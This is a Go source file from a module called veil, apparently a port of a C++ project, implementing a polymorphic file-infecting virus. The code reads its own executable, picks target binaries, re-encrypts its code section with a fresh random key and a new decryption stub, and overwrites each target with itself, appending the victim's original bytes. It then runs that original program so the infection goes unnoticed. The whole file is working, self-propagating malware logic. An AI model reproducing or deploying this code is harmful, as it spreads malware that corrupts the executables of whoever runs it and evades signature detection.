package virus

import (
	"fmt"
	"os"
	"path/filepath"

	"github.com/xyproto/veil/internal/cipher"
	ed "github.com/xyproto/veil/internal/editor"
	"github.com/xyproto/veil/internal/editor/current"
	"github.com/xyproto/veil/internal/poly"
	"github.com/xyproto/veil/internal/rng"
)

// VerboseMode gates this package's trace output, the same idiom every
// other subsystem in this module uses.
var VerboseMode = false

// BlockSize selects the host word size (4 or 8 bytes) modifyBinary
// draws each infection's fresh cipher.Secret at. Overridden process-wide
// by internal/config from VEIL_BLOCK_SIZE.
var BlockSize = 8

func trace(format string, args ...any) {
	if VerboseMode {
		fmt.Fprintf(os.Stderr, format, args...)
	}
}

// Virus ties a TargetSelect policy, an Exec policy, and a poly.Engine
// together into spec.md §4's propagation logic (REDESIGN FLAGS: Go
// generics standing in for the original's class-template parameters —
// S and X are each a small, often-stateless policy type, so there is no
// interface-boxing cost to threading them through as type parameters
// instead of fields of interface type).
type Virus[S TargetSelect, X Exec] struct {
	selector S
	executor X

	runningPath string
	args        []string
	env         []string

	editor ed.BinaryEditor
	engine *poly.Engine

	payload     Payload
	payloadTemp *TempFile

	launched bool
	waited   bool
}

// Build parses args[0] (this process's own executable) into a
// BinaryEditor, splitting off any attached payload a previous infection
// left trailing it, and constructs a Virus ready for
// ExecAttachedProgram/InfectNext. Mirrors the original's
// Virus::build(argc, argv, envp), translated to Go's (value, error)
// idiom in place of a nullable pointer (REDESIGN FLAGS: "Parse failures
// in build degrade to null").
func Build[S TargetSelect, X Exec](selector S, executor X, args, env []string) (*Virus[S, X], error) {
	if len(args) == 0 {
		return nil, fmt.Errorf("virus: build: %w", ErrMalformedPath)
	}
	runningPath := args[0]

	raw, err := os.ReadFile(runningPath)
	if err != nil {
		return nil, fmt.Errorf("virus: read %s: %w", runningPath, ErrFileAccessDenied)
	}

	hostSize, payload := splitAttached(raw)
	trace("virus: %s is %d bytes (%d host, attached payload %d bytes)\n", runningPath, len(raw), hostSize, len(payload.Bytes))

	editor, err := current.OsBuild(ed.Source{Bytes: raw[:hostSize]})
	if err != nil {
		return nil, fmt.Errorf("virus: parse %s: %w", runningPath, ErrMalformedPath)
	}

	engine, err := poly.New(editor, cipher.Secret{})
	if err != nil {
		return nil, fmt.Errorf("virus: build engine: %w", err)
	}

	return &Virus[S, X]{
		selector:    selector,
		executor:    executor,
		runningPath: runningPath,
		args:        args,
		env:         env,
		editor:      editor,
		engine:      engine,
		payload:     payload,
	}, nil
}

// isFirstExecution reports whether this process was launched without an
// attached payload — i.e. it is a pristine, not-yet-infected host.
func (v *Virus[S, X]) isFirstExecution() bool {
	return v.payload.Bytes == nil
}

// ExecAttachedProgram dumps the attached payload (if any) to a scoped
// temp file and launches it through the Exec policy, forwarding this
// process's own args[1:] and env. Returns ErrNoTargetAttached when this
// is a first execution with nothing attached, matching spec.md's
// "fails if this binary doesn't have a target binary attached".
func (v *Virus[S, X]) ExecAttachedProgram() error {
	if v.isFirstExecution() {
		return ErrNoTargetAttached
	}
	if v.launched {
		return ErrTargetAlreadyInExecution
	}

	guard, err := NewTempFile(filepath.Dir(v.runningPath), "veil-payload-*"+filepath.Ext(v.runningPath))
	if err != nil {
		return fmt.Errorf("virus: stage payload: %w", ErrFileWritingFailed)
	}

	if err := os.WriteFile(guard.Path(), v.payload.Bytes, 0o755); err != nil {
		guard.Close()
		return fmt.Errorf("virus: stage payload: %w", ErrFileWritingFailed)
	}

	forward := []string{}
	if len(v.args) > 1 {
		forward = v.args[1:]
	}
	// The staged file has to outlive this call (the executor may launch
	// it as an async child process), so the guard is kept on v rather
	// than deferred here; WaitExecEnd closes it once the child is known
	// to be done with it.
	v.payloadTemp = guard
	v.executor.Exec(guard.Path(), forward, v.env)
	v.launched = true
	return nil
}

// WaitExecEnd blocks until the attached payload launched by
// ExecAttachedProgram finishes, then removes the staged payload temp
// file. Fails if no execution was ever started.
func (v *Virus[S, X]) WaitExecEnd() error {
	if !v.launched {
		return ErrTargetNotExecuted
	}
	v.executor.Wait()
	v.waited = true
	if v.payloadTemp != nil {
		v.payloadTemp.Close()
	}
	return nil
}

// ExecResult reports the attached payload's exit code via the Exec
// policy, zero-value semantics left entirely to that policy (mirrors
// the original's exec_result() forwarding to ExecPolicy::get_result()).
func (v *Virus[S, X]) ExecResult() int {
	return v.executor.Result()
}

// InfectNext overwrites target (or, if empty, whatever
// TargetSelect.NextTarget picks) with a freshly re-encrypted copy of
// this process's own host image, carrying target's original bytes as
// the new attached payload. Mirrors Virus::infect_next.
func (v *Virus[S, X]) InfectNext(target string) error {
	if target == "" {
		target = v.selector.NextTarget(v.runningPath)
	}
	if target == "" {
		return fmt.Errorf("virus: infect: %w", ErrMalformedPath)
	}

	info, err := os.Stat(target)
	if err != nil {
		return fmt.Errorf("virus: stat %s: %w", target, ErrFileAccessDenied)
	}
	targetBytes, err := os.ReadFile(target)
	if err != nil {
		return fmt.Errorf("virus: read %s: %w", target, ErrFileAccessDenied)
	}

	scratch, err := NewTempFile(filepath.Dir(target), "veil-infect-*")
	if err != nil {
		return fmt.Errorf("virus: infect %s: %w", target, ErrFileWritingFailed)
	}
	defer scratch.Close()

	origEntry, err := v.modifyBinary(scratch.Path())
	if err != nil {
		return err
	}
	if err := v.appendPayload(scratch.Path(), targetBytes, origEntry); err != nil {
		return err
	}

	if err := os.Chmod(scratch.Path(), info.Mode().Perm()); err != nil {
		return fmt.Errorf("virus: chmod %s: %w", scratch.Path(), ErrFileWritingFailed)
	}
	if err := copyFile(scratch.Path(), target); err != nil {
		return fmt.Errorf("virus: write %s: %w", target, ErrFileCopyFailed)
	}
	return nil
}

// modifyBinary regenerates the decryption stub and re-encrypts the
// host's own text section with a fresh random secret, then saves the
// result to scratchPath. Returns the host's real entry VA as it was
// immediately before Install retargeted it, the value the trailer
// records as OriginalEntryVA — ed.BinaryEditor.FirstExecutionVA itself
// can't be read back for this afterward, since Install's ExecFirst call
// has by then overwritten it with the new stub's VA. Mirrors
// Virus::modify_binary.
func (v *Virus[S, X]) modifyBinary(scratchPath string) (ed.Address, error) {
	secret := cipher.RandomSecret(rng.Default(), BlockSize)
	origEntry := v.editor.FirstExecutionVA()

	if err := v.engine.EncryptCode(secret); err != nil {
		return 0, fmt.Errorf("virus: encrypt host text: %w", err)
	}
	if _, err := v.engine.Install(origEntry); err != nil {
		return 0, fmt.Errorf("virus: install stub: %w", err)
	}
	if _, err := v.editor.SaveChanges(ed.Destination{Path: scratchPath}); err != nil {
		return 0, fmt.Errorf("virus: save modified host: %w", err)
	}
	trace("virus: regenerated host at %s, original entry %#x\n", scratchPath, origEntry)
	return origEntry, nil
}

// appendPayload writes targetBytes and its trailer after whatever
// modifyBinary already wrote to path, giving the resulting file the
// full [host][payload][trailer] layout spec.md's payload-trailer format
// names, regardless of whether this format's SaveChanges preserved any
// trailing bytes of its own — the virus layer owns the trailer, not the
// editor.
func (v *Virus[S, X]) appendPayload(path string, targetBytes []byte, origEntry ed.Address) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return fmt.Errorf("virus: append payload to %s: %w", path, ErrFileWritingFailed)
	}
	defer f.Close()

	trailer := encodeTrailer(origEntry, uint64(len(targetBytes)))
	if _, err := f.Write(targetBytes); err != nil {
		return fmt.Errorf("virus: append payload to %s: %w", path, ErrFileWritingFailed)
	}
	if _, err := f.Write(trailer[:]); err != nil {
		return fmt.Errorf("virus: append trailer to %s: %w", path, ErrFileWritingFailed)
	}
	return nil
}

// copyFile replaces dst's content with src's, byte for byte.
func copyFile(src, dst string) error {
	content, err := os.ReadFile(src)
	if err != nil {
		return err
	}
	return os.WriteFile(dst, content, 0o644)
}

